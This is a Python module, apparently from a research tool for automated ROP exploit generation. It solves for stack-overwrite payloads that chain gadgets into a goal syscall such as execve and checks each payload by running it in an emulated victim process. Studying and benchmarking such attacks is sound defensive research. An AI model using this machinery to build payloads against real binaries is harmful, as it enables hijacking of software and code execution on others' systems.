"""Post-processing — stage 4: linearize a plan, assemble the stack
payload, and validate it by concrete execution.

Assembly renames every step's local payload symbols (``stk<k>``) to
global payload-offset symbols, substitutes the register values that the
plan's causal links guarantee at each step's entry, constrains every
step's jump target to the next step's address, and hands the whole
conjunction to the solver.  The model *is* the payload.

Validation is merciless: the payload is written to the victim's stack
in a fresh emulator, control is diverted to the first gadget (the
threat model's stack-write vulnerability), and the run must raise the
goal syscall with exactly the planned arguments.  Every payload count
reported by the benchmarks is a count of *validated* payloads.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Sequence

from ..binfmt.image import BinaryImage
from ..emulator.cpu import Emulator
from ..emulator.memory import PERM_R, PERM_W
from ..emulator.syscalls import AttackTriggered, SyscallEvent
from ..isa.registers import ALL_REGS, MASK64, Reg
from ..obs import span
from ..solver.solver import Solver
from ..symex.expr import BV, Bool, bv_const, bv_eq, bv_sym, free_symbols, substitute
from ..symex.state import reg_sym, stack_sym_offset
from ..gadgets.record import GadgetRecord
from .goals import ResolvedGoal
from .plan import PartialPlan

FILLER_WORD = 0x4141414141414141
#: A mapped scratch page junk registers point at, so that dead wild
#: loads in otherwise-sound gadgets do not fault during validation.
JUNK_REGION = 0x00700000


class AssemblyError(Exception):
    """The plan could not be turned into a concrete payload."""


@dataclass
class AttackPayload:
    """A concrete, ready-to-inject stack payload."""

    goal_name: str
    words: List[int]
    chain: List[GadgetRecord]  # execution order, goal gadget last
    entry_address: int  # first gadget (overwrites the return address)
    validated: bool = False
    event: Optional[SyscallEvent] = None
    #: Leak-oracle queries the delivery needs first (ASLR defenses; the
    #: planner sets this when validating under a policy with a budget).
    leak_steps: int = 0

    @property
    def length_bytes(self) -> int:
        return 8 * len(self.words)

    def to_bytes(self) -> bytes:
        return b"".join(struct.pack("<Q", w & ((1 << 64) - 1)) for w in self.words)

    def describe(self) -> str:
        """Fig. 8-style rendering of the chain and payload."""
        lines = [f"payload[{self.goal_name}] — {len(self.chain)} gadgets, {self.length_bytes} bytes"]
        if self.leak_steps:
            lines.append(f"  leak: {self.leak_steps} address-leak step(s) before injection")
        for i, gadget in enumerate(self.chain):
            marker = "goal" if i == len(self.chain) - 1 else f"g{i + 1}"
            lines.append(f"  {marker}: {gadget.location:#x}  " + "; ".join(str(x) for x in gadget.insns))
        lines.append("  stack: " + " ".join(f"{w:#x}" for w in self.words[:16]) + (" ..." if len(self.words) > 16 else ""))
        return "\n".join(lines)


def _rename_to_payload(expr, entry_cursor: int):
    """Rename local stk symbols to global ``p<offset>`` payload symbols."""
    mapping: Dict[str, BV] = {}
    for name in free_symbols(expr):
        offset = stack_sym_offset(name)
        if offset is None:
            continue
        mapping[name] = bv_sym(f"p{entry_cursor + offset}")
    return substitute(expr, mapping)


def _payload_offset(name: str) -> Optional[int]:
    """Inverse of :func:`_rename_to_payload`'s naming: the payload byte
    offset a ``p<offset>`` symbol names, or None for any other symbol."""
    if not name.startswith("p"):
        return None
    try:
        return int(name[1:])
    except ValueError:
        return None


def assemble_payload(
    plan: PartialPlan,
    resolved: ResolvedGoal,
    solver: Optional[Solver] = None,
) -> AttackPayload:
    """Linearize and concretize a complete plan. Raises AssemblyError."""
    solver = solver or Solver()
    if not plan.is_complete:
        raise AssemblyError("plan has open conditions")
    order = plan.linearize()
    if order is None:
        raise AssemblyError("orderings admit no valid linearization")
    steps = [plan.steps[sid] for sid in order]
    established = plan.established_values()

    constraints: List[Bool] = []
    cursor = 8  # word 0 holds the first gadget's address
    cursors: List[int] = []
    max_offset = 8
    for index, step in enumerate(steps):
        gadget = step.gadget
        cursors.append(cursor)
        entry_values = established.get(step.sid, {})
        reg_subst = {reg_sym(reg).name: bv_const(value) for reg, value in entry_values.items()}

        step_constraints = list(plan.bindings.get(step.sid, ()))
        if index + 1 < len(steps):
            next_addr = steps[index + 1].gadget.location
            step_constraints.append(bv_eq(gadget.jump_target, bv_const(next_addr)))
        for constraint in step_constraints:
            concretized = substitute(constraint, reg_subst)
            renamed = _rename_to_payload(concretized, cursor)
            leftover = {s for s in free_symbols(renamed) if _payload_offset(s) is None}
            if leftover:
                raise AssemblyError(f"constraint depends on uncontrolled inputs: {leftover}")
            constraints.append(renamed)
        max_offset = max(max_offset, cursor + max(gadget.max_stack_offset, 0) + 8)
        if gadget.stack_delta is None:
            raise AssemblyError("gadget with unknown stack delta in chain")
        cursor += gadget.stack_delta
        max_offset = max(max_offset, cursor)

    result = solver.check(constraints)
    if not result.is_sat:
        raise AssemblyError("payload constraints unsatisfiable")

    words: Dict[int, int] = {0: steps[0].gadget.location}
    for name, value in result.model.items():
        offset = _payload_offset(name)
        if offset is not None and offset % 8 == 0 and offset >= 0:
            if offset in words and words[offset] != value:
                raise AssemblyError(f"conflicting payload word at {offset}")
            words[offset] = value
    top = max(max(words) + 8, max_offset)
    if top > 0x1C000:
        # Beyond the validation harness's stack headroom.  (The threat
        # model allows any payload length; concrete delivery vectors
        # like netperf's 4 KiB argument impose their own caps.)
        raise AssemblyError(f"payload too large: {top} bytes")
    payload_words = [words.get(off, FILLER_WORD) for off in range(0, top, 8)]
    return AttackPayload(
        goal_name=resolved.goal.name,
        words=payload_words,
        chain=[s.gadget for s in steps],
        entry_address=steps[0].gadget.location,
    )


# ---------------------------------------------------------------------------
# Validation
# ---------------------------------------------------------------------------


def deliver_payload(
    image: BinaryImage,
    words: Sequence[int],
    entry: int,
    *,
    step_limit: int = 500_000,
    on_divert: Optional[Callable[[Emulator], object]] = None,
) -> Optional[SyscallEvent]:
    """Plant ``words`` on a fresh process's stack, divert to ``entry``
    and run to the first attack syscall; return its event.

    Returns None when the payload never gets control: the decoder stub
    crashed, or the words do not fit the stack headroom.  Whatever stops
    a diverted run short of an attack syscall (a fault, the step limit,
    a mitigation's kill) propagates.

    This is the threat model's one delivery path.  Self-modifying
    binaries decode themselves at startup, and the attack happens
    against the *running* process — so the decoder stub is executed
    first, exactly as it would have by the time any memory
    vulnerability fires.  (Gadgets extracted from statically-encoded
    regions therefore fail validation: they do not exist at runtime.)
    ``on_divert`` is called with the emulator just before control
    transfers to ``entry``; mitigations install their hooks there, so
    they watch the payload but not the legitimate decoder stub.  The
    run, decoder stub included, is one ``emulate.run`` span with its
    step count.
    """
    emu = Emulator(image, stop_on_attack=True, step_limit=step_limit)
    with span("emulate.run") as sp:
        try:
            return _divert(emu, image, words, entry, step_limit, on_divert)
        finally:
            sp.add("steps", emu.steps)


def _divert(
    emu: Emulator,
    image: BinaryImage,
    words: Sequence[int],
    entry: int,
    step_limit: int,
    on_divert: Optional[Callable[[Emulator], object]],
) -> Optional[SyscallEvent]:
    """:func:`deliver_payload`'s run on ``emu``, a fresh process."""
    emu.memory.map(JUNK_REGION, 0x2000, PERM_R | PERM_W)
    if "__sm_start" in image.symbols:
        resume = image.symbols.get("_start", image.entry)
        emu.cpu.rip = image.symbols["__sm_start"]
        try:
            while emu.cpu.rip != resume and emu.steps < step_limit:
                emu.step()
        except Exception:
            return None
    for reg in ALL_REGS:
        if reg is not Reg.RSP:
            emu.cpu.set(reg, JUNK_REGION + 0x800)
    # Plant the payload where the smashed stack would put it: the word
    # at rsp is the overwritten return address.
    base = emu.cpu.get(Reg.RSP)
    try:
        emu.memory.write(base, b"".join(struct.pack("<Q", w & MASK64) for w in words))
    except Exception:
        return None  # does not fit the stack headroom
    emu.cpu.set(Reg.RSP, base + 8)
    if on_divert is not None:
        on_divert(emu)
    emu.cpu.rip = entry

    try:
        while True:
            emu.step()
    except AttackTriggered as attack:
        return attack.event


def validate_payload(
    image: BinaryImage,
    payload: AttackPayload,
    resolved: ResolvedGoal,
    *,
    step_limit: int = 500_000,
) -> bool:
    """Deliver the payload; it is valid when the run raises the goal
    syscall with exactly the planned arguments.  Sets
    ``payload.validated``, and ``payload.event`` when a syscall ran."""
    try:
        event = deliver_payload(image, payload.words, payload.entry_address, step_limit=step_limit)
    except Exception:
        event = None
    if event is not None:
        payload.event = event
    payload.validated = event is not None and event_matches(event, resolved)
    return payload.validated


def event_matches(event: SyscallEvent, resolved: ResolvedGoal) -> bool:
    """Is ``event`` the goal syscall with the goal's arguments?"""
    if event.number != resolved.goal.syscall:
        return False
    arg_regs = (Reg.RDI, Reg.RSI, Reg.RDX)
    for i, reg in enumerate(arg_regs):
        expected = resolved.reg_values.get(reg)
        if expected is not None and i < len(event.args) and event.args[i] != expected:
            return False
    # For execve, additionally demand the planted path decodes correctly.
    for mg in resolved.memory_goals:
        if event.path is not None and resolved.reg_values.get(Reg.RDI) == mg.addr:
            if not mg.data.startswith(event.path):
                return False
    return True
